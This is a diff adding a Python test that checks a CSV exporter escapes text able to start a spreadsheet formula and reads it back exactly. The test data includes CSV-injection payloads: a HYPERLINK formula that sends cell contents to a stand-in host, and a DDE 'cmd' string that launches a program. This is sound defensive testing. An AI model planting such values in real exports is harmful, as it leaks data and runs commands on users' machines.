@@ -189,3 +189,22 @@ def test_counts_that_are_not_whole_are_left_as_they_are():
 def test_measured_hours_and_minutes_are_written_in_their_shortest_form():
     df = pd.DataFrame({"hour": [8.0, 7.5, np.nan], "interval_minutes": [20.0, 0.25, 1.0], "rate": [0.5, 1.0, 0.0]})
     assert csv_bytes(df) == b"hour,interval_minutes,rate\n8,20,0.500000\n7.5,0.25,1.000000\n,1,0.000000\n"
+
+
+def test_text_that_would_start_a_spreadsheet_formula_is_escaped_and_read_back_exactly():
+    """CSV injection (data steward's audit): a participant's notes '=HYPERLINK(...)' ran as a formula
+    when an exported table was opened in a spreadsheet."""
+    from cacas.records import escape_formula, read_csv
+
+    texts = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+             "\tTAB", "'quoted", "''twice", "plain words", "-", "- a list item", "", "café = good"]
+    numbers = ["-3", "+1.5", "-2e3", "-.5"]
+    df = pd.DataFrame({"notes": texts + numbers, "n": range(len(texts) + len(numbers))})
+    data = csv_bytes(df)
+    cells = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)["notes"].tolist()
+    assert all(c == "" or c == "plain words" or c == "café = good" or c.startswith("'")
+               for c in cells[:len(texts)])  # nothing a spreadsheet would run
+    assert cells[len(texts):] == numbers  # numbers written as text stay numbers
+    back = read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)["notes"].tolist()
+    assert back == texts + numbers
+    assert [escape_formula(x) for x in (3, None, 2.5)] == [3, None, 2.5]
